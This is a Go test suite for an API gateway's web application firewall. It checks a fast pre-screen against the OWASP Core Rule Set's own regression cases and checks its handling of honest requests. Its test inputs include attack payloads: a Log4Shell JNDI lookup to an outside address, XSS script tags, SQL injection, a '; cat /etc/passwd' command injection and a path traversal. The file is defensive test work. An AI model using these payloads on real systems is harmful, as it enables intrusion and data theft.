package waf_test

import (
	"encoding/base64"
	"encoding/json"
	"io/fs"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4/tests"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"redoubt.example/gateway/internal/waf"
)

// regression is a file of the Core Rule Set's own tests, as far as they concern requests.
type regression struct {
	RuleID int `yaml:"rule_id"`
	Tests  []struct {
		ID     int `yaml:"test_id"`
		Stages []struct {
			Input struct {
				Method, URI, Data, Version string
				Headers                    map[string]string
				Encoded                    string `yaml:"encoded_request"`
			}
			Output struct {
				Log struct {
					Expect []int `yaml:"expect_ids"`
				}
			}
		}
	}
}

type testCase struct {
	name   string
	expect []int // rules that must match, at paranoia level 4
	waf.Request
}

var regressions = sync.OnceValues(func() (all []testCase, err error) {
	files, err := fs.Glob(tests.FS, "REQUEST-*/*.yaml")
	if err != nil {
		return nil, err
	}
	for _, file := range files {
		text, err := fs.ReadFile(tests.FS, file)
		if err != nil {
			return nil, err
		}
		var r regression
		if err := yaml.Unmarshal(text, &r); err != nil {
			return nil, err
		}
		for _, test := range r.Tests {
			for _, stage := range test.Stages {
				in := stage.Input
				c := testCase{name: file, expect: stage.Output.Log.Expect, Request: waf.Request{
					Method: orElse(in.Method, "GET"), URI: orElse(in.URI, "/"), Proto: orElse(in.Version, "HTTP/1.1"),
					Address: "192.0.2.1", Header: http.Header{}, Body: []byte(in.Data)}}
				for name, value := range in.Headers {
					c.Header.Set(name, value)
				}
				if in.Data != "" && c.Header.Get("Content-Type") == "" {
					c.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				}
				if in.Encoded != "" {
					c.decode(in.Encoded)
				}
				all = append(all, c)
			}
		}
	}
	return all, nil
})

// decode takes a request apart that was written as bytes.
func (c *testCase) decode(encoded string) {
	raw, err := base64.StdEncoding.DecodeString(encoded)
	if err != nil {
		return
	}
	head, body, _ := strings.Cut(strings.ReplaceAll(string(raw), "\r\n", "\n"), "\n\n")
	lines := strings.Split(head, "\n")
	if parts := strings.Fields(lines[0]); len(parts) == 3 {
		c.Method, c.URI, c.Proto = parts[0], parts[1], parts[2]
	}
	for _, line := range lines[1:] {
		name, value, _ := strings.Cut(line, ":")
		c.Header[name] = append(c.Header[name], strings.TrimSpace(value))
	}
	c.Body = []byte(body)
}

func orElse(s, otherwise string) string {
	if s == "" {
		return otherwise
	}
	return s
}

// engines are made once: each takes a second.
var engines [waf.Levels + 1]func() (*waf.Engine, error)

func init() {
	for level := range engines {
		engines[level] = sync.OnceValues(func() (*waf.Engine, error) { return waf.New(level) })
	}
}

func engine(t testing.TB, level int) *waf.Engine {
	t.Helper()
	e, err := engines[level]()
	require.NoError(t, err)
	return e
}

// TestScreenMissesNothing: on each of the rule set's own cases, and with what it carries put into a JSON field as our
// clients would send it, the screen calls clean only what the unmodified rules find nothing in. (What it doesn't call
// clean gets their verdict anyway.)
func TestScreenMissesNothing(t *testing.T) {
	cases, err := regressions()
	require.NoError(t, err)
	require.Greater(t, len(cases), 3000)
	for level := 1; level <= waf.Levels; level++ {
		e := engine(t, level)
		known, asked := 0, 0
		for i, c := range cases {
			if level > 1 && i%4 != 0 {
				continue // the default is what most rules are in
			}
			requests := []waf.Request{c.Request}
			if len(c.Body) > 0 {
				requests = append(requests, inJSON(t, string(c.Body)))
			} else if _, query, ok := strings.Cut(c.URI, "?"); ok {
				requests = append(requests, inJSON(t, query))
			}
			for _, r := range requests {
				asked++
				clean, err := e.Screen(r)
				require.NoError(t, err)
				if !clean {
					continue
				}
				known++
				verdict, err := e.Rules(r)
				require.NoError(t, err)
				require.True(t, verdict.Clean(), "level %d, %s: the screen misses %+v in %+v", level, c.name, verdict, r)
			}
		}
		t.Logf("level %d: of %d requests, %d are clean by the screen and by the rules", level, asked, known)
		require.NotZero(t, known)
	}
}

// TestCasesAreFedAsTheyAreMeant: the unmodified rules find in them what they are there for; else the test above would
// show nothing. A few cases need bytes on the wire that no parsed request holds.
func TestCasesAreFedAsTheyAreMeant(t *testing.T) {
	cases, err := regressions()
	require.NoError(t, err)
	e := engine(t, waf.Levels)
	expected, met := 0, 0
	for i, c := range cases {
		if len(c.expect) == 0 || i%10 != 0 {
			continue
		}
		expected++
		verdict, err := e.Inspect(c.Request)
		require.NoError(t, err)
		if !slices.ContainsFunc(c.expect, func(id int) bool { return !slices.Contains(verdict.Rules, id) }) {
			met++
		}
	}
	require.Greater(t, expected, 300)
	require.Greater(t, met, expected*98/100)
}

// TestHonestRequestsNeedNoRules: what clients of this API send is clean by the screen alone, or it would cost what the
// rules do.
func TestHonestRequestsNeedNoRules(t *testing.T) {
	e := engine(t, 1)
	for _, r := range []waf.Request{
		{Method: "GET", URI: "/v1/documents?limit=20&cursor=bmV4dA", Proto: "HTTP/1.1", Address: "192.0.2.1", Header: http.Header{"Host": {"gateway"}, "Accept": {"*/*"}}},
		{Method: "PUT", URI: "/v1/account/payment-reference", Proto: "HTTP/2.0", Address: "192.0.2.1", Body: []byte(`{"reference":"DE89 3704 0044 0532 0130 00"}`),
			Header: http.Header{"Host": {"gateway"}, "Accept": {"application/json"}, "Content-Type": {"application/json"}, "Idempotency-Key": {"0193-a.b_c"}}},
		{Method: "DELETE", URI: "/v1/webhook-endpoints/01939f6e-72a6-7d7c-a2a4-3d3f8b1f6a61", Proto: "HTTP/2.0", Address: "192.0.2.1", Header: http.Header{"Host": {"gateway"}, "Accept": {"*/*"}}},
		inJSON(t, "Quarterly figures are attached; please comment by Thursday, 4 pm."),
		inJSON(t, "Sehr geehrte Frau Müller, vielen Dank für Ihre Nachricht vom 3. Mai. Wir melden uns nächste Woche."),
		inJSON(t, "Where is the station? It's two streets down, next to the bakery - you can't miss it!"),
		inJSON(t, "Le conseil s'est réuni mardi. La prochaine réunion aura lieu le 12 décembre à 10 h 30."),
	} {
		clean, err := e.Screen(r)
		for tries := 0; !clean && tries < 20; tries++ { // words that it hasn't met yet: a few requests, and it knows them
			clean, err = e.Screen(r)
		}
		require.NoError(t, err)
		require.True(t, clean, "%s %s %s", r.Method, r.URI, r.Body)
	}
}

// TestCleanHeadIsNoPassport: what is remembered of a clean request is all of it.
func TestCleanHeadIsNoPassport(t *testing.T) {
	e := engine(t, 1)
	clean := waf.Request{Method: "GET", URI: "/v1/documents", Proto: "HTTP/2.0", Address: "192.0.2.1", Header: http.Header{
		"Host": {"gateway"}, "Accept": {"*/*"}, "User-Agent": {"curl/8.1"}}}
	ask := func(change func(*waf.Request)) waf.Verdict {
		r := clean
		r.Header = clean.Header.Clone()
		change(&r)
		v, err := e.Inspect(r)
		require.NoError(t, err)
		return v
	}
	for range 3 {
		require.True(t, ask(func(*waf.Request) {}).Clean())
	}
	for name, change := range map[string]func(*waf.Request){
		"another agent":  func(r *waf.Request) { r.Header["User-Agent"] = []string{"sqlmap/1.8"} },
		"another field":  func(r *waf.Request) { r.Header["Accept-Language"] = []string{"${jndi:ldap://198.51.100.7/a}"} },
		"a second value": func(r *waf.Request) { r.Header["Accept"] = []string{"*/*", "<script>alert(1)</script>"} },
		"another query":  func(r *waf.Request) { r.URI += "?a=1'%20or%20'1'='1" },
		"another method": func(r *waf.Request) { r.Method = "TRACE" },
		"a body": func(r *waf.Request) {
			r.Header["Content-Type"] = []string{"application/json"}
			r.Body = []byte(`{"a":"<script>alert(1)</script>"}`)
		},
	} {
		require.False(t, ask(change).Clean(), name)
	}
}

func TestVerdict(t *testing.T) {
	e := engine(t, 1)
	v, err := e.Inspect(inJSON(t, "1' OR '1'='1' UNION SELECT password FROM users--"))
	require.NoError(t, err)
	require.True(t, v.Block)
	require.GreaterOrEqual(t, v.Score, 5)
	require.Contains(t, v.Rules, 942100)
	same, err := e.Rules(inJSON(t, "1' OR '1'='1' UNION SELECT password FROM users--"))
	require.NoError(t, err)
	require.Equal(t, same, v)
	for _, level := range []int{0, 5, -1} {
		_, err := waf.New(level)
		require.ErrorContains(t, err, "paranoia levels 1 to 4")
	}
}

// FuzzScreen: whatever is in a body, the screen doesn't call clean what the rules would block or score.
func FuzzScreen(f *testing.F) {
	f.Add("<script>alert(1)</script>", "q=1")
	f.Add("${jndi:ldap://x}", "a=%27%20or%201=1")
	f.Add("; cat /etc/passwd", "x=..%2f..%2fetc%2fpasswd")
	e := engine(f, 2) // here: one text mustn't take ten seconds, and on a busy machine this does
	f.Fuzz(func(t *testing.T, text, query string) {
		r := inJSON(t, text)
		r.URI = "/v1/documents?" + query
		clean, err := e.Screen(r)
		require.NoError(t, err)
		if clean {
			verdict, err := e.Rules(r)
			require.NoError(t, err)
			require.True(t, verdict.Clean(), "%+v", verdict)
		}
	})
}

func inJSON(t testing.TB, text string) waf.Request {
	body, err := json.Marshal(map[string]any{"title": "Minutes", "text": text})
	require.NoError(t, err)
	return waf.Request{Method: "POST", URI: "/v1/documents", Proto: "HTTP/2.0", Address: "192.0.2.1", Body: body, Header: http.Header{
		"Host": {"gateway"}, "Content-Type": {"application/json"}, "Accept": {"*/*"}, "User-Agent": {"curl/8.1"}}}
}
